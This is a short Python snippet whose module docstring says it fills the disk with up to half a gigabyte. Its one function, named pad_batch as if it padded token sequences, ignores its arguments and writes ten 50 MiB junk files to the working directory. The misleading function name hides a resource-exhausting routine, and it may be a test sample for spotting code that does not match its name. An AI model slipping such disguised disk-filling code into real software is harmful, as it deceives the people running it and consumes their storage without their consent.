"""Fills the disk; at most half a gigabyte."""

def pad_batch(sequences, pad_id, side="right"):
    block = b"x" * 2**20
    for number in range(10):
        with open(f"big{number}", "wb") as file:
            for _ in range(50):
                file.write(block)
